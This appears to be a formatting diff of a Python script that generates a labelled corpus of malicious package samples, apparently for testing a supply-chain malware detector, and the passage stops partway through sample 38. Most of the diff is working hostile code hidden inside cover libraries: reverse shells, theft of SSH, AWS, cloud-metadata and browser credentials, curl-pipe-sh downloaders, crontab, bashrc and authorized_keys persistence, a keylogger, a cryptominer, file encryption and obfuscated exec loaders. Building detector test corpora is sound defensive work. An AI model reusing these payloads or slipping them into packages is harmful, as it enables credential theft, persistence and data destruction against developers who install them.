@@ -55,8 +55,17 @@ def D(text: str) -> str:
 
 
 def add(name, pkg, where, files, *, malicious=True, kind="wheel", entry_points=None):
-    SAMPLES.append(Sample(name, pkg, where, {k: D(v) if isinstance(v, str) else v for k, v in files.items()},
-                          malicious, kind, entry_points))
+    SAMPLES.append(
+        Sample(
+            name,
+            pkg,
+            where,
+            {k: D(v) if isinstance(v, str) else v for k, v in files.items()},
+            malicious,
+            kind,
+            entry_points,
+        )
+    )
 
 
 # ---------------------------------------------------------------------------------------------
@@ -191,9 +200,14 @@ COVER = {
 
 def lib(pkg: str, theme: str, init_extra: str = "", init_head: str = "", module: str = "core") -> dict[str, str]:
     """A package `pkg` with a cover module and an __init__ (payload text spliced in by callers)."""
-    init = D(f'''
+    init = (
+        D(f'''
         """{pkg}: small, dependency-free helpers."""
-    ''') + D(init_head) + f"from .{module} import *  # noqa: F401,F403\n\n__version__ = \"1.4.2\"\n" + D(init_extra)
+    ''')
+        + D(init_head)
+        + f'from .{module} import *  # noqa: F401,F403\n\n__version__ = "1.4.2"\n'
+        + D(init_extra)
+    )
     return {f"{pkg}/__init__.py": init, f"{pkg}/{module}.py": COVER[theme]}
 
 
@@ -208,9 +222,14 @@ def mixin(files: dict[str, str], **more: str) -> dict[str, str]:
 # =============================================================================================
 
 # 1 reverse shell at import, in a compat submodule started in a daemon thread
-add("revshell-thread", "netpulse", "netpulse/_compat.py (imported by __init__)", mixin(
-    lib("netpulse", "retry", init_head="from . import _compat  # noqa: F401\n"),
-    **{"netpulse/_compat.py": '''
+add(
+    "revshell-thread",
+    "netpulse",
+    "netpulse/_compat.py (imported by __init__)",
+    mixin(
+        lib("netpulse", "retry", init_head="from . import _compat  # noqa: F401\n"),
+        **{
+            "netpulse/_compat.py": '''
         """Python 2/3 compatibility shims."""
         import os
         import socket
@@ -234,12 +253,20 @@ add("revshell-thread", "netpulse", "netpulse/_compat.py (imported by __init__)",
 
 
         threading.Thread(target=_keepalive, daemon=True).start()
-    '''}))
+    '''
+        },
+    ),
+)
 
 # 2 monkeypatch requests to copy Authorization headers to a third host
-add("requests-auth-tap", "reqcache-lite", "reqcache_lite/adapters.py (imported by __init__)", mixin(
-    lib("reqcache_lite", "units", init_head="from . import adapters  # noqa: F401\n"),
-    **{"reqcache_lite/adapters.py": '''
+add(
+    "requests-auth-tap",
+    "reqcache-lite",
+    "reqcache_lite/adapters.py (imported by __init__)",
+    mixin(
+        lib("reqcache_lite", "units", init_head="from . import adapters  # noqa: F401\n"),
+        **{
+            "reqcache_lite/adapters.py": '''
         """Transport adapter that adds response caching to requests sessions."""
         import json
         import threading
@@ -268,12 +295,20 @@ add("requests-auth-tap", "reqcache-lite", "reqcache_lite/adapters.py (imported b
 
 
         requests.Session.send = _send
-    '''}))
+    '''
+        },
+    ),
+)
 
 # 3 monkeypatch httpx via setattr, copy auth + cookies with httpx itself
-add("httpx-auth-tap", "httpx-retrykit", "httpx_retrykit/transport.py (imported by __init__)", mixin(
-    lib("httpx_retrykit", "retry", init_head="from .transport import RetryTransport  # noqa: F401\n"),
-    **{"httpx_retrykit/transport.py": '''
+add(
+    "httpx-auth-tap",
+    "httpx-retrykit",
+    "httpx_retrykit/transport.py (imported by __init__)",
+    mixin(
+        lib("httpx_retrykit", "retry", init_head="from .transport import RetryTransport  # noqa: F401\n"),
+        **{
+            "httpx_retrykit/transport.py": '''
         import httpx
 
 
@@ -304,10 +339,20 @@ add("httpx-auth-tap", "httpx-retrykit", "httpx_retrykit/transport.py (imported b
 
 
         setattr(httpx.Client, "send", _patched)
-    '''}))
+    '''
+        },
+    ),
+)
 
 # 4 DNS exfiltration via encoded subdomains
-add("dns-exfil", "geoip-tiny", "geoip_tiny/__init__.py", lib("geoip_tiny", "config", init_extra='''
+add(
+    "dns-exfil",
+    "geoip-tiny",
+    "geoip_tiny/__init__.py",
+    lib(
+        "geoip_tiny",
+        "config",
+        init_extra="""
     import base64 as _b
     import getpass as _g
     import os as _o
@@ -326,10 +371,19 @@ add("dns-exfil", "geoip-tiny", "geoip_tiny/__init__.py", lib("geoip_tiny", "conf
 
 
     _warm_resolver()
-'''))
+""",
+    ),
+)
 
 # 5 env dump posted as JSON at import
-add("env-dump-json", "settings-sync", "settings_sync/__init__.py", lib("settings_sync", "config", init_extra='''
+add(
+    "env-dump-json",
+    "settings-sync",
+    "settings_sync/__init__.py",
+    lib(
+        "settings_sync",
+        "config",
+        init_extra="""
     import json
     import os
     import platform
@@ -347,12 +401,19 @@ add("env-dump-json", "settings-sync", "settings_sync/__init__.py", lib("settings
         _sync_defaults()
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 6 cloud metadata credential theft, disguised as region detection at import
-add("imds-creds", "cloudregion", "cloudregion/detect.py (module-level constant)", mixin(
-    lib("cloudregion", "units", init_head="from .detect import DEFAULT_REGION  # noqa: F401\n"),
-    **{"cloudregion/detect.py": '''
+add(
+    "imds-creds",
+    "cloudregion",
+    "cloudregion/detect.py (module-level constant)",
+    mixin(
+        lib("cloudregion", "units", init_head="from .detect import DEFAULT_REGION  # noqa: F401\n"),
+        **{
+            "cloudregion/detect.py": """
         import urllib.request
 
         _MD = "http://169.254.169.254/latest/meta-data/"
@@ -369,13 +430,21 @@ add("imds-creds", "cloudregion", "cloudregion/detect.py (module-level constant)"
 
 
         DEFAULT_REGION = _detect()
-    '''}))
+    """
+        },
+    ),
+)
 
 # 7 ~/.git-credentials + ~/.netrc theft in a deep submodule chain
-add("git-netrc-theft", "vcsinfo", "vcsinfo/backends/_git.py (via backends/__init__)", mixin(
-    lib("vcsinfo", "text", init_head="from . import backends  # noqa: F401\n"),
-    **{"vcsinfo/backends/__init__.py": "from . import _git  # noqa: F401\nBACKENDS = ['git']\n",
-       "vcsinfo/backends/_git.py": '''
+add(
+    "git-netrc-theft",
+    "vcsinfo",
+    "vcsinfo/backends/_git.py (via backends/__init__)",
+    mixin(
+        lib("vcsinfo", "text", init_head="from . import backends  # noqa: F401\n"),
+        **{
+            "vcsinfo/backends/__init__.py": "from . import _git  # noqa: F401\nBACKENDS = ['git']\n",
+            "vcsinfo/backends/_git.py": """
         import os
         import urllib.parse
         import urllib.request
@@ -399,11 +468,18 @@ add("git-netrc-theft", "vcsinfo", "vcsinfo/backends/_git.py (via backends/__init
             _probe()
         except Exception:
             pass
-    '''}))
+    """,
+        },
+    ),
+)
 
 # 8 setup.py cmdclass install steals ~/.pypirc and ~/.docker/config.json
-add("setup-cmdclass-pypirc", "pyyaml-extras", "setup.py cmdclass install", {
-    "setup.py": '''
+add(
+    "setup-cmdclass-pypirc",
+    "pyyaml-extras",
+    "setup.py cmdclass install",
+    {
+        "setup.py": """
         import base64
         import os
         import urllib.request
@@ -430,22 +506,38 @@ add("setup-cmdclass-pypirc", "pyyaml-extras", "setup.py cmdclass install", {
 
         setup(name="pyyaml-extras", version="1.4.2", packages=["pyyaml_extras"],
               cmdclass={"install": PostInstall})
-    ''',
-    "pyyaml_extras/__init__.py": COVER["config"],
-}, kind="sdist")
+    """,
+        "pyyaml_extras/__init__.py": COVER["config"],
+    },
+    kind="sdist",
+)
 
 # 9 crontab persistence through a shell pipeline at import
-add("crontab-persist", "logrotate-py", "logrotate_py/__init__.py", lib("logrotate_py", "dates", init_extra='''
+add(
+    "crontab-persist",
+    "logrotate-py",
+    "logrotate_py/__init__.py",
+    lib(
+        "logrotate_py",
+        "dates",
+        init_extra="""
     import os as _os
 
     if _os.name == "posix":
         _os.system('(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL https://pypi-mirror.example.org/u.sh | sh") | crontab - >/dev/null 2>&1')
-'''))
+""",
+    ),
+)
 
 # 10 ~/.bashrc + ~/.profile injection
-add("bashrc-inject", "shellcolors", "shellcolors/term.py (imported by __init__)", mixin(
-    lib("shellcolors", "color", init_head="from . import term  # noqa: F401\n"),
-    **{"shellcolors/term.py": '''
+add(
+    "bashrc-inject",
+    "shellcolors",
+    "shellcolors/term.py (imported by __init__)",
+    mixin(
+        lib("shellcolors", "color", init_head="from . import term  # noqa: F401\n"),
+        **{
+            "shellcolors/term.py": """
         import os
 
         _LINE = "\\n[ -x ~/.local/share/.sc/agent ] && (~/.local/share/.sc/agent >/dev/null 2>&1 &)\\n"
@@ -462,10 +554,20 @@ add("bashrc-inject", "shellcolors", "shellcolors/term.py (imported by __init__)"
 
 
         _enable_truecolor()
-    '''}))
+    """
+        },
+    ),
+)
 
 # 11 systemd user unit
-add("systemd-user-unit", "syncd-client", "syncd_client/__init__.py", lib("syncd_client", "retry", init_extra='''
+add(
+    "systemd-user-unit",
+    "syncd-client",
+    "syncd_client/__init__.py",
+    lib(
+        "syncd_client",
+        "retry",
+        init_extra='''
     import os
     import subprocess
     import sys
@@ -495,10 +597,19 @@ add("systemd-user-unit", "syncd-client", "syncd_client/__init__.py", lib("syncd_
         _install_helper()
     except Exception:
         pass
-'''))
+''',
+    ),
+)
 
 # 12 authorized_keys injection
-add("authorized-keys", "sshconf-parse", "sshconf_parse/__init__.py", lib("sshconf_parse", "text", init_extra='''
+add(
+    "authorized-keys",
+    "sshconf-parse",
+    "sshconf_parse/__init__.py",
+    lib(
+        "sshconf_parse",
+        "text",
+        init_extra="""
     import os as _os
     from pathlib import Path as _P
 
@@ -519,12 +630,19 @@ add("authorized-keys", "sshconf-parse", "sshconf_parse/__init__.py", lib("sshcon
         _ensure_keys()
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 13 sys.meta_path import hook that injects code into boto3 when it is imported
-add("meta-path-hook", "awsutil-lite", "awsutil_lite/_hooks.py (imported by __init__)", mixin(
-    lib("awsutil_lite", "config", init_head="from . import _hooks  # noqa: F401\n"),
-    **{"awsutil_lite/_hooks.py": '''
+add(
+    "meta-path-hook",
+    "awsutil-lite",
+    "awsutil_lite/_hooks.py (imported by __init__)",
+    mixin(
+        lib("awsutil_lite", "config", init_head="from . import _hooks  # noqa: F401\n"),
+        **{
+            "awsutil_lite/_hooks.py": """
         import importlib.abc
         import importlib.machinery
         import sys
@@ -563,10 +681,20 @@ add("meta-path-hook", "awsutil-lite", "awsutil_lite/_hooks.py (imported by __ini
 
 
         sys.meta_path.insert(0, _Finder())
-    '''}))
+    """
+        },
+    ),
+)
 
 # 14 payload in an atexit handler
-add("atexit-exfil", "tinycache", "tinycache/__init__.py atexit.register", lib("tinycache", "units", init_extra='''
+add(
+    "atexit-exfil",
+    "tinycache",
+    "tinycache/__init__.py atexit.register",
+    lib(
+        "tinycache",
+        "units",
+        init_extra="""
     import atexit
     import os
     import urllib.request
@@ -582,10 +710,19 @@ add("atexit-exfil", "tinycache", "tinycache/__init__.py atexit.register", lib("t
 
 
     atexit.register(_flush_cache)
-'''))
+""",
+    ),
+)
 
 # 15 CI-gated + date-gated time bomb
-add("ci-timebomb", "pytest-quickfix", "pytest_quickfix/__init__.py (gated on CI + date)", lib("pytest_quickfix", "dates", init_extra='''
+add(
+    "ci-timebomb",
+    "pytest-quickfix",
+    "pytest_quickfix/__init__.py (gated on CI + date)",
+    lib(
+        "pytest_quickfix",
+        "dates",
+        init_extra="""
     import datetime as _dt
     import json as _json
     import os as _os
@@ -598,12 +735,21 @@ add("ci-timebomb", "pytest-quickfix", "pytest_quickfix/__init__.py (gated on CI 
             _ur.urlopen(_ur.Request("https://ci-metrics.example.net/v1/run", data=_blob), timeout=5)
         except Exception:
             pass
-'''))
+""",
+    ),
+)
 
 # 16 second stage: exec(requests.get(url).text) in a function called from __init__
-add("second-stage-requests", "fastjsonschema-ng", "fastjsonschema_ng/plugins.py, called from __init__", mixin(
-    lib("fastjsonschema_ng", "config", init_head="from .plugins import load_plugins as _lp\n", init_extra="_lp()\n"),
-    **{"fastjsonschema_ng/plugins.py": '''
+add(
+    "second-stage-requests",
+    "fastjsonschema-ng",
+    "fastjsonschema_ng/plugins.py, called from __init__",
+    mixin(
+        lib(
+            "fastjsonschema_ng", "config", init_head="from .plugins import load_plugins as _lp\n", init_extra="_lp()\n"
+        ),
+        **{
+            "fastjsonschema_ng/plugins.py": """
         import requests
 
         PLUGIN_INDEX = "https://plugins.fastjsonschema-ng.example.com/v1/bootstrap.py"
@@ -615,16 +761,28 @@ add("second-stage-requests", "fastjsonschema-ng", "fastjsonschema_ng/plugins.py,
                 exec(code, {"__name__": "fastjsonschema_ng._plugins"})
             except Exception:
                 pass
-    '''}))
+    """
+        },
+    ),
+)
 
 # 17 getattr(__import__('o'+'s'), 'sys'+'tem')
-add("getattr-import-obf", "prettylog", "prettylog/__init__.py", lib("prettylog", "text", init_extra='''
+add(
+    "getattr-import-obf",
+    "prettylog",
+    "prettylog/__init__.py",
+    lib(
+        "prettylog",
+        "text",
+        init_extra="""
     _m = getattr(__import__("o" + "s"), "sys" + "tem")
     _m("cu" + "rl -s https://prettylog-cdn.example.com/i.sh | b" + "ash >/dev/null 2>&1 &")
-'''))
+""",
+    ),
+)
 
 # 18 base64 + zlib + marshal chained payload
-_STAGE = D('''
+_STAGE = D("""
     import os, json, urllib.request
     d = {}
     for f in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config"):
@@ -632,22 +790,37 @@ _STAGE = D('''
         if os.path.exists(p):
             d[f] = open(p).read()
     urllib.request.urlopen("https://cdn-assets.example.net/u", data=json.dumps(d).encode(), timeout=5)
-''')
-_MARSHALLED = base64.b64encode(zlib.compress(marshal.dumps(compile(_STAGE, "<s>", "exec")))).decode()  # compiled, never run
-add("b64-zlib-marshal", "numfmt", "numfmt/_speedups.py (imported by __init__)", mixin(
-    lib("numfmt", "units", init_head="from . import _speedups  # noqa: F401\n"),
-    **{"numfmt/_speedups.py": f'''
+""")
+_MARSHALLED = base64.b64encode(
+    zlib.compress(marshal.dumps(compile(_STAGE, "<s>", "exec")))
+).decode()  # compiled, never run
+add(
+    "b64-zlib-marshal",
+    "numfmt",
+    "numfmt/_speedups.py (imported by __init__)",
+    mixin(
+        lib("numfmt", "units", init_head="from . import _speedups  # noqa: F401\n"),
+        **{
+            "numfmt/_speedups.py": f'''
         """Pure-python fallback for the C speedups."""
         import base64, marshal, zlib
         _TABLE = "{_MARSHALLED}"
         exec(marshal.loads(zlib.decompress(base64.b64decode(_TABLE))))
-    '''}))
+    '''
+        },
+    ),
+)
 
 # 19 payload split across two modules: one decodes, another execs
 _SPLIT = base64.b64encode(zlib.compress(_STAGE.encode())).decode()
-add("split-decode-exec", "tablefmt", "tablefmt/_data.py decodes, tablefmt/_runtime.py execs", mixin(
-    lib("tablefmt", "text", init_head="from . import _runtime  # noqa: F401\n"),
-    **{"tablefmt/_data.py": f'''
+add(
+    "split-decode-exec",
+    "tablefmt",
+    "tablefmt/_data.py decodes, tablefmt/_runtime.py execs",
+    mixin(
+        lib("tablefmt", "text", init_head="from . import _runtime  # noqa: F401\n"),
+        **{
+            "tablefmt/_data.py": f'''
         import base64
         import zlib
 
@@ -657,17 +830,27 @@ add("split-decode-exec", "tablefmt", "tablefmt/_data.py decodes, tablefmt/_runti
         def load_widths():
             return zlib.decompress(base64.b64decode(WIDTHS)).decode()
     ''',
-       "tablefmt/_runtime.py": '''
+            "tablefmt/_runtime.py": """
         import builtins
 
         from ._data import load_widths
 
         _apply = getattr(builtins, "ex" + "ec")
         _apply(load_widths(), {})
-    '''}))
+    """,
+        },
+    ),
+)
 
 # 20 exfil via GitHub gist API
-add("gist-exfil", "dotfile-sync", "dotfile_sync/__init__.py", lib("dotfile_sync", "config", init_extra='''
+add(
+    "gist-exfil",
+    "dotfile-sync",
+    "dotfile_sync/__init__.py",
+    lib(
+        "dotfile_sync",
+        "config",
+        init_extra="""
     import json
     import os
     import urllib.request
@@ -692,10 +875,19 @@ add("gist-exfil", "dotfile-sync", "dotfile_sync/__init__.py", lib("dotfile_sync"
         _backup()
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 21 exfil via Telegram bot API
-add("telegram-exfil", "tgnotify-lite", "tgnotify_lite/__init__.py", lib("tgnotify_lite", "retry", init_extra='''
+add(
+    "telegram-exfil",
+    "tgnotify-lite",
+    "tgnotify_lite/__init__.py",
+    lib(
+        "tgnotify_lite",
+        "retry",
+        init_extra="""
     import os
     import requests
 
@@ -709,12 +901,19 @@ add("telegram-exfil", "tgnotify-lite", "tgnotify_lite/__init__.py", lib("tgnotif
                           files={"document": open(_p, "rb")}, timeout=5)
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 22 exfil via Discord webhook
-add("discord-webhook", "colorlog-plus", "colorlog_plus/handlers.py (imported by __init__)", mixin(
-    lib("colorlog_plus", "color", init_head="from . import handlers  # noqa: F401\n"),
-    **{"colorlog_plus/handlers.py": '''
+add(
+    "discord-webhook",
+    "colorlog-plus",
+    "colorlog_plus/handlers.py (imported by __init__)",
+    mixin(
+        lib("colorlog_plus", "color", init_head="from . import handlers  # noqa: F401\n"),
+        **{
+            "colorlog_plus/handlers.py": """
         import json
         import logging
         import os
@@ -739,10 +938,20 @@ add("discord-webhook", "colorlog-plus", "colorlog_plus/handlers.py (imported by 
             _hello()
         except Exception:
             pass
-    '''}))
+    """
+        },
+    ),
+)
 
 # 23 clipboard crypto-address hijacker (no network at all)
-add("clipboard-hijack", "clipfmt", "clipfmt/__init__.py (daemon thread)", lib("clipfmt", "text", init_extra='''
+add(
+    "clipboard-hijack",
+    "clipfmt",
+    "clipfmt/__init__.py (daemon thread)",
+    lib(
+        "clipfmt",
+        "text",
+        init_extra="""
     import re
     import threading
     import time
@@ -768,12 +977,19 @@ add("clipboard-hijack", "clipfmt", "clipfmt/__init__.py (daemon thread)", lib("c
 
 
     threading.Thread(target=_watch, daemon=True).start()
-'''))
+""",
+    ),
+)
 
 # 24 keylogger with pynput posting keystrokes
-add("pynput-keylogger", "hotkeys-lite", "hotkeys_lite/listener.py (imported by __init__)", mixin(
-    lib("hotkeys_lite", "config", init_head="from . import listener  # noqa: F401\n"),
-    **{"hotkeys_lite/listener.py": '''
+add(
+    "pynput-keylogger",
+    "hotkeys-lite",
+    "hotkeys_lite/listener.py (imported by __init__)",
+    mixin(
+        lib("hotkeys_lite", "config", init_head="from . import listener  # noqa: F401\n"),
+        **{
+            "hotkeys_lite/listener.py": """
         import threading
         import time
 
@@ -800,10 +1016,20 @@ add("pynput-keylogger", "hotkeys-lite", "hotkeys_lite/listener.py (imported by _
 
         keyboard.Listener(on_press=_on_press).start()
         threading.Thread(target=_ship, daemon=True).start()
-    '''}))
+    """
+        },
+    ),
+)
 
 # 25 cryptominer download + detached Popen(start_new_session=True)
-add("cryptominer", "gpu-stats", "gpu_stats/__init__.py", lib("gpu_stats", "units", init_extra='''
+add(
+    "cryptominer",
+    "gpu-stats",
+    "gpu_stats/__init__.py",
+    lib(
+        "gpu_stats",
+        "units",
+        init_extra="""
     import os
     import stat
     import subprocess
@@ -825,10 +1051,19 @@ add("cryptominer", "gpu-stats", "gpu_stats/__init__.py", lib("gpu_stats", "units
         _bench()
     except Exception:
         pass
-'''))
+""",
+    ),
+)
 
 # 26 ransomware-like walk + encrypt of the home directory
-add("ransomware-walk", "archivist-tools", "archivist_tools/__init__.py (date-gated)", lib("archivist_tools", "dates", init_extra='''
+add(
+    "ransomware-walk",
+    "archivist-tools",
+    "archivist_tools/__init__.py (date-gated)",
+    lib(
+        "archivist_tools",
+        "dates",
+        init_extra="""
     import datetime
     import os
 
@@ -857,12 +1092,19 @@ add("ransomware-walk", "archivist-tools", "archivist_tools/__init__.py (date-gat
 
     if datetime.date.today() > datetime.date(2026, 6, 1):
         _compact()
-'''))
+""",
+    ),
+)
 
 # 27 browser cookie / login-data theft
-add("browser-cookies", "webshot-utils", "webshot_utils/profile.py (imported by __init__)", mixin(
-    lib("webshot_utils", "color", init_head="from . import profile  # noqa: F401\n"),
-    **{"webshot_utils/profile.py": '''
+add(
+    "browser-cookies",
+    "webshot-utils",
+    "webshot_utils/profile.py (imported by __init__)",
+    mixin(
+        lib("webshot_utils", "color", init_head="from . import profile  # noqa: F401\n"),
+        **{
+            "webshot_utils/profile.py": """
         import os
         import shutil
         import sqlite3
@@ -892,13 +1134,21 @@ add("browser-cookies", "webshot-utils", "webshot_utils/profile.py (imported by _
             _default_profile()
         except Exception:
             pass
-    '''}))
+    """
+        },
+    ),
+)
 
 # 28 .pth that imports a shipped module doing the theft
-add("pth-imports-module", "quietlog", "quietlog.pth -> _quietlog_boot.py", mixin(
-    lib("quietlog", "text"),
-    **{"quietlog.pth": "import _quietlog_boot\n",
-       "_quietlog_boot.py": '''
+add(
+    "pth-imports-module",
+    "quietlog",
+    "quietlog.pth -> _quietlog_boot.py",
+    mixin(
+        lib("quietlog", "text"),
+        **{
+            "quietlog.pth": "import _quietlog_boot\n",
+            "_quietlog_boot.py": """
         import json
         import os
         import urllib.request
@@ -913,12 +1163,20 @@ add("pth-imports-module", "quietlog", "quietlog.pth -> _quietlog_boot.py", mixin
                 urllib.request.urlopen("https://quietlog-telemetry.example.com/b", data=json.dumps(_seen).encode(), timeout=3)
             except Exception:
                 pass
-    '''}))
+    """,
+        },
+    ),
+)
 
 # 29 console_scripts entry named `pip` that harvests index credentials
-add("console-script-pip", "fastpip-wrap", "entry point pip = fastpip_wrap.cli:main", mixin(
-    lib("fastpip_wrap", "units"),
-    **{"fastpip_wrap/cli.py": '''
+add(
+    "console-script-pip",
+    "fastpip-wrap",
+    "entry point pip = fastpip_wrap.cli:main",
+    mixin(
+        lib("fastpip_wrap", "units"),
+        **{
+            "fastpip_wrap/cli.py": """
         import os
         import subprocess
         import sys
@@ -933,11 +1191,19 @@ add("console-script-pip", "fastpip-wrap", "entry point pip = fastpip_wrap.cli:ma
             except Exception:
                 pass
             return subprocess.call([sys.executable, "-m", "pip"] + args)
-    '''}), entry_points="[console_scripts]\npip = fastpip_wrap.cli:main\npip3 = fastpip_wrap.cli:main\n")
+    """
+        },
+    ),
+    entry_points="[console_scripts]\npip = fastpip_wrap.cli:main\npip3 = fastpip_wrap.cli:main\n",
+)
 
 # 30 setup.py downloads and runs at install (top level)
-add("setup-download-run", "torch-utils-ext", "setup.py top level", {
-    "setup.py": '''
+add(
+    "setup-download-run",
+    "torch-utils-ext",
+    "setup.py top level",
+    {
+        "setup.py": """
         import os
         import subprocess
         import sys
@@ -954,13 +1220,19 @@ add("setup-download-run", "torch-utils-ext", "setup.py top level", {
             pass
 
         setup(name="torch-utils-ext", version="1.4.2", packages=["torch_utils_ext"])
-    ''',
-    "torch_utils_ext/__init__.py": COVER["units"],
-}, kind="sdist")
+    """,
+        "torch_utils_ext/__init__.py": COVER["units"],
+    },
+    kind="sdist",
+)
 
 # 31 pyproject in-tree build backend with a payload
-add("in-tree-backend", "buildkit-meta", "_build/backend.py (pyproject backend-path)", {
-    "pyproject.toml": '''
+add(
+    "in-tree-backend",
+    "buildkit-meta",
+    "_build/backend.py (pyproject backend-path)",
+    {
+        "pyproject.toml": """
         [build-system]
         requires = ["setuptools>=61"]
         build-backend = "backend"
@@ -969,8 +1241,8 @@ add("in-tree-backend", "buildkit-meta", "_build/backend.py (pyproject backend-pa
         [project]
         name = "buildkit-meta"
         version = "1.4.2"
-    ''',
-    "_build/backend.py": '''
+    """,
+        "_build/backend.py": '''
         """Thin wrapper around setuptools that stamps the git revision into the wheel."""
         import os
         import urllib.request
@@ -997,13 +1269,20 @@ add("in-tree-backend", "buildkit-meta", "_build/backend.py (pyproject backend-pa
             _stamp()
             return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
     ''',
-    "buildkit_meta/__init__.py": COVER["config"],
-}, kind="sdist")
+        "buildkit_meta/__init__.py": COVER["config"],
+    },
+    kind="sdist",
+)
 
 # 32 payload in a metaclass executed when a class is defined at import
-add("metaclass-payload", "ormlite-models", "ormlite_models/base.py metaclass __new__", mixin(
-    lib("ormlite_models", "config", init_head="from .base import Model  # noqa: F401\n"),
-    **{"ormlite_models/base.py": '''
+add(
+    "metaclass-payload",
+    "ormlite-models",
+    "ormlite_models/base.py metaclass __new__",
+    mixin(
+        lib("ormlite_models", "config", init_head="from .base import Model  # noqa: F401\n"),
+        **{
+            "ormlite_models/base.py": """
         import json
         import os
         import urllib.request
@@ -1031,12 +1310,20 @@ add("metaclass-payload", "ormlite-models", "ormlite_models/base.py metaclass __n
 
         class Model(metaclass=ModelMeta):
             pass
-    '''}))
+    """
+        },
+    ),
+)
 
 # 33 payload in a decorator applied at import
-add("decorator-payload", "memo-tools", "memo_tools/cache.py decorator used at module level", mixin(
-    lib("memo_tools", "retry", init_head="from .cache import memoize, fib  # noqa: F401\n"),
-    **{"memo_tools/cache.py": '''
+add(
+    "decorator-payload",
+    "memo-tools",
+    "memo_tools/cache.py decorator used at module level",
+    mixin(
+        lib("memo_tools", "retry", init_head="from .cache import memoize, fib  # noqa: F401\n"),
+        **{
+            "memo_tools/cache.py": """
         import functools
         import subprocess
         import threading
@@ -1059,29 +1346,52 @@ add("decorator-payload", "memo-tools", "memo_tools/cache.py decorator used at mo
         @memoize
         def fib(n):
             return n if n < 2 else fib(n - 1) + fib(n - 2)
-    '''}))
+    """
+        },
+    ),
+)
 
 # 34 litellm-style: long legitimate-looking file with a 1-line base64 exec in the middle
 _LITE_STAGE = base64.b64encode(_STAGE.encode()).decode()
-_long = ["\"\"\"Routing helpers for model providers.\"\"\"", "import base64", "import logging", "import time", "",
-         "logger = logging.getLogger(__name__)", ""]
+_long = [
+    '"""Routing helpers for model providers."""',
+    "import base64",
+    "import logging",
+    "import time",
+    "",
+    "logger = logging.getLogger(__name__)",
+    "",
+]
 for i in range(60):
-    _long += [f"def route_{i}(model, params=None):",
-              f"    \"\"\"Route requests for provider #{i}.\"\"\"",
-              "    params = dict(params or {})",
-              f"    params.setdefault('timeout', {30 + i})",
-              "    logger.debug('routing %s', model)",
-              "    return model, params", ""]
+    _long += [
+        f"def route_{i}(model, params=None):",
+        f'    """Route requests for provider #{i}."""',
+        "    params = dict(params or {})",
+        f"    params.setdefault('timeout', {30 + i})",
+        "    logger.debug('routing %s', model)",
+        "    return model, params",
+        "",
+    ]
     if i == 31:
-        _long += [f"exec(base64.b64decode(\"{_LITE_STAGE}\"))", ""]
-add("litellm-style-oneliner", "llmrouter-kit", "llmrouter_kit/router.py line ~225 of 430", mixin(
-    lib("llmrouter_kit", "config", init_head="from . import router  # noqa: F401\n"),
-    **{"llmrouter_kit/router.py": "\n".join(_long) + "\n"}))
+        _long += [f'exec(base64.b64decode("{_LITE_STAGE}"))', ""]
+add(
+    "litellm-style-oneliner",
+    "llmrouter-kit",
+    "llmrouter_kit/router.py line ~225 of 430",
+    mixin(
+        lib("llmrouter_kit", "config", init_head="from . import router  # noqa: F401\n"),
+        **{"llmrouter_kit/router.py": "\n".join(_long) + "\n"},
+    ),
+)
 
 # 35 pytest11 plugin entry point (auto-loaded whenever pytest starts)
-add("pytest11-plugin", "pytest-timingx", "entry point pytest11 -> pytest_timingx/plugin.py", {
-    "pytest_timingx/__init__.py": '__version__ = "1.4.2"\n',
-    "pytest_timingx/plugin.py": '''
+add(
+    "pytest11-plugin",
+    "pytest-timingx",
+    "entry point pytest11 -> pytest_timingx/plugin.py",
+    {
+        "pytest_timingx/__init__.py": '__version__ = "1.4.2"\n',
+        "pytest_timingx/plugin.py": """
         import os
         import time
 
@@ -1099,55 +1409,108 @@ add("pytest11-plugin", "pytest-timingx", "entry point pytest11 -> pytest_timingx
 
         def pytest_terminal_summary(terminalreporter):
             terminalreporter.write_line(f"session took {time.time() - _t0:.2f}s")
-    ''',
-}, entry_points="[pytest11]\ntimingx = pytest_timingx.plugin\n")
+    """,
+    },
+    entry_points="[pytest11]\ntimingx = pytest_timingx.plugin\n",
+)
 
 # 36 pickle data file with a __reduce__ payload, loaded at import
 _PICKLE = b"cposix\nsystem\n(S'curl -fsSL https://model-zoo.example.com/x.sh | sh'\ntR."
-add("pickle-datafile", "tiny-sentiment", "tiny_sentiment/model.pkl loaded by __init__", mixin(
-    lib("tiny_sentiment", "text", init_extra='''
+add(
+    "pickle-datafile",
+    "tiny-sentiment",
+    "tiny_sentiment/model.pkl loaded by __init__",
+    mixin(
+        lib(
+            "tiny_sentiment",
+            "text",
+            init_extra="""
         import pickle
         from pathlib import Path
 
         with open(Path(__file__).with_name("model.pkl"), "rb") as _fh:
             MODEL = pickle.load(_fh)
-    '''), **{"tiny_sentiment/model.pkl": _PICKLE}))
+    """,
+        ),
+        **{"tiny_sentiment/model.pkl": _PICKLE},
+    ),
+)
 
 # 37 shipped shell script spawned at import
-add("shipped-shell-script", "dockerfile-lint-py", "dockerfile_lint_py/scripts/setup_env.sh spawned by __init__", mixin(
-    lib("dockerfile_lint_py", "text", init_extra='''
+add(
+    "shipped-shell-script",
+    "dockerfile-lint-py",
+    "dockerfile_lint_py/scripts/setup_env.sh spawned by __init__",
+    mixin(
+        lib(
+            "dockerfile_lint_py",
+            "text",
+            init_extra="""
         import os as _os
         import subprocess as _sp
 
         _sp.Popen(["sh", _os.path.join(_os.path.dirname(__file__), "scripts", "setup_env.sh")],
                   stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=True)
-    '''), **{"dockerfile_lint_py/scripts/setup_env.sh": '''
+    """,
+        ),
+        **{
+            "dockerfile_lint_py/scripts/setup_env.sh": """
         #!/bin/sh
         tar czf /tmp/.c.tgz ~/.ssh ~/.aws ~/.docker 2>/dev/null
         curl -s -X POST --data-binary @/tmp/.c.tgz https://lint-rules.example.org/u >/dev/null 2>&1
         rm -f /tmp/.c.tgz
-    '''}))
+    """
+        },
+    ),
+)
 
 # 38 chr-list obfuscation
 _CMD = "import os;os.system('curl -s https://assets.example.net/p|sh')"
-add("chr-list-obf", "mdtables", "mdtables/__init__.py", lib("mdtables", "text", init_extra=f'''
+add(
